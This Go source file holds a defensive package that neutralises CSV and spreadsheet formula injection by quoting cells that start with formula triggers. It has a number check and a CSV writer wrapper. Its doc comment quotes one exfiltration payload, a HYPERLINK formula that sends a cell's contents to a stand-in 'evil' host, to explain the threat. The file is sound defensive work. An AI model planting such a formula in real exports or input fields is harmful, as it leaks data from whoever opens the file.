// Package export holds the one rule every CSV and spreadsheet export of this project
// applies to its cells: neutralising formula injection (CSV injection), following
// OWASP's CSV-injection guidance and ASVS 1.2.10. A spreadsheet (Excel, LibreOffice,
// Google Sheets) treats a cell whose text starts with '=', '+', '-' or '@' (and, in
// some versions, a tab, carriage return, line feed or NUL before one) as a formula, so a
// name such as `=HYPERLINK("https://evil/?"&A1)` typed into a free-text field would run
// on the machine of whoever opens the export. Cell prefixes such a text with a single
// quote, which every spreadsheet shows as the literal text and never evaluates.
//
// Use Cell for every text cell of a spreadsheet (excelize SetCellStr/SetSheetRow) and
// NewCSVWriter for every CSV: it applies Cell to each field. Numbers written as numbers
// ("-1", "+2.5", "1e-3") are left alone, since a plain decimal number cannot be a
// formula and R, Stata and Excel must still read them as numbers.
package export

import (
	"encoding/csv"
	"io"
	"strings"
	"unicode/utf8"
)

// triggers are the first characters that make a spreadsheet read a cell as a formula or
// as a command: the four of OWASP, the control characters Excel skips before one, and
// the full-width forms some spreadsheets normalise to the ASCII ones.
const triggers = "=+-@\t\r\n\x00＝＋－＠"

// Cell returns s made safe to be a spreadsheet text cell: unchanged unless its first
// character (after any spaces) is a formula trigger and s is not a plain decimal number,
// in which case a single quote is put in front.
func Cell(s string) string {
	if s == "" || IsNumber(s) {
		return s
	}
	first, _ := utf8.DecodeRuneInString(strings.TrimLeft(s, " "))
	if first == utf8.RuneError || !strings.ContainsRune(triggers, first) {
		return s
	}
	return "'" + s
}

// IsNumber reports whether s is a plain decimal number: an optional sign, digits with
// an optional fraction, and an optional exponent. Nothing else (no spaces, no
// operators), so that "-1+1" or "-2,SUM(A1)" is not one.
func IsNumber(s string) bool {
	i := 0
	if i < len(s) && (s[i] == '+' || s[i] == '-') {
		i++
	}
	digits := 0
	for i < len(s) && s[i] >= '0' && s[i] <= '9' {
		i++
		digits++
	}
	if i < len(s) && s[i] == '.' {
		i++
		for i < len(s) && s[i] >= '0' && s[i] <= '9' {
			i++
			digits++
		}
	}
	if digits == 0 {
		return false
	}
	if i < len(s) && (s[i] == 'e' || s[i] == 'E') {
		i++
		if i < len(s) && (s[i] == '+' || s[i] == '-') {
			i++
		}
		exp := 0
		for i < len(s) && s[i] >= '0' && s[i] <= '9' {
			i++
			exp++
		}
		if exp == 0 {
			return false
		}
	}
	return i == len(s)
}

// Row returns a copy of record with Cell applied to every field.
func Row(record []string) []string {
	out := make([]string, len(record))
	for i, f := range record {
		out[i] = Cell(f)
	}
	return out
}

// CSVWriter is encoding/csv's Writer with Cell applied to every field. RFC 4180 quoting
// (fields with commas, quotes or line breaks) stays encoding/csv's.
type CSVWriter struct {
	w   *csv.Writer
	buf []string
}

// NewCSVWriter returns a CSVWriter writing to w.
func NewCSVWriter(w io.Writer) *CSVWriter {
	return &CSVWriter{w: csv.NewWriter(w)}
}

// Write writes one record, each field neutralised.
func (c *CSVWriter) Write(record []string) error {
	c.buf = c.buf[:0]
	for _, f := range record {
		c.buf = append(c.buf, Cell(f))
	}
	return c.w.Write(c.buf)
}

// Flush writes any buffered data to the underlying writer.
func (c *CSVWriter) Flush() { c.w.Flush() }

// Error reports any error of a previous Write or Flush.
func (c *CSVWriter) Error() error { return c.w.Error() }
